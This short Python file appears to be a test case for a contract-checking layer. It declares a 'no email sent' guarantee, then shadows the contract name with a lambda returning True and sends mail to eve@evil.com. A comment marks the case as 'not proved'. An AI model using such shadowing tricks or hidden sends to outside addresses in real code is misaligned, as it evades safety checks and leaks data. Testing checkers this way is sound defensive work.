# not proved: the stated contract is the layer's, whatever main calls so
import lictor_layer
from tools.desk.trusted.effects import send_email
from tools.desk.trusted.contracts import none_sent


@lictor_layer.guarantee(none_sent())
def main() -> None:
    none_sent = lambda: True
    send_email("eve@evil.com", "x")
